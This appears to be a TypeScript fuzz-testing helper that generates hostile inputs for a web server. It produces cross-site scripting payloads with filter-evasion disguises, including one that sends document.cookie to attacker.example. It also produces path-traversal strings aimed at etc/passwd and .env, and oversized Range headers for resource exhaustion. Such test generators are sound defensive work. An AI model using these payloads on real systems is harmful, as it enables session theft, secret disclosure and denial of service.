const MARKS = [
  (call: string) => `<script>${call}</script>`,
  (call: string) => `"><img src=x onerror="${call}">`,
  (call: string) => `'><svg onload='${call}'>`,
  (call: string) => `</title></style><script>${call}</script>`,
  (call: string) => `--><iframe srcdoc="<script>${call}</script>">`,
  (call: string) => `]]><a href="javascript:${call}">x</a>`,
  (call: string) => `{{constructor.constructor('${call}')()}}`,
  (call: string) => `\${${call}}`,
  (call: string) => `*/}</style><script>${call}</script>/*`,
  (call: string) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  () => `<base href="//attacker.example/"><link rel=stylesheet href="//attacker.example/x">`,
  () => "{SHOWCASE_BASE}{REGISTRY_BASE}{colors.none}",
  () => "---\nname: other\n--- # [x](javascript:alert) ![](//attacker.example/p.png)",
];
const CALLS = [
  "alert(1)",
  "window.__ran=1",
  "console.log('ran')",
  "fetch('//attacker.example/'+document.cookie)",
];
const DISGUISES = [
  (text: string) => text,
  (text: string) => text.toUpperCase(),
  (text: string) => text.replaceAll("<", "\u200b<"),
  (text: string) => `\u202e${text}`,
  (text: string) => text.replaceAll("script", "scr\u0000ipt"),
  (text: string) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
];

/** Words that would run or load something where they are taken for markup, style, script or a template. */
export function hostileWords(random: () => number): string {
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  return pick(DISGUISES)(pick(MARKS)(pick(CALLS)));
}

/** A path that tries to leave its folder, in one of the ways that servers have fallen for. */
export function hostilePath(random: () => number): string {
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  const up = pick([
    "..",
    "%2e%2e",
    "%2e.",
    "..%2f..",
    "%252e%252e",
    "..;",
    "....",
    "..%5c..",
    "%c0%ae%c0%ae",
    ".",
  ]);
  const goal = pick([
    "package.zip",
    "etc/passwd",
    ".env",
    "storage",
    "api/health",
    "postgres.url",
    "__proto__",
  ]);
  const start = pick(["", "tokens/", "docs/", "r/", "logos/icon/", "%2f", "/", "\\", "r/..%2fregistry/"]);
  const end = pick(["", "%00.css", "%00", "?", ";.css", "/", "//", "#x", "%0d%0aX-A:b", ".rsc"]);
  return `/${start}${Array.from({ length: 1 + Math.floor(random() * 5) }, () => up).join("/")}/${goal}${end}`;
}

/** A `Range` header that asks for more work or bytes than the file is worth, or for what there is not. */
export function hostileRange(random: () => number): string {
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  return pick([
    () => `bytes=${Array.from({ length: 600 }, (_, at) => `${at}-${at + 9000}`).join(",")}`,
    () => `bytes=0-,${"0-,".repeat(500)}0-`,
    () => "bytes=-99999999999999999999",
    () => "bytes=99999999999999999999-",
    () => "bytes=5-1",
    () => "bytes=--1",
    () => "bytes=0-0xffff",
    () => "lines=0-1",
    () => `bytes=${"9".repeat(4_000)}-`,
    () => `bytes=${Math.floor(random() * 50)}-${Math.floor(random() * 100)}`,
  ])();
}
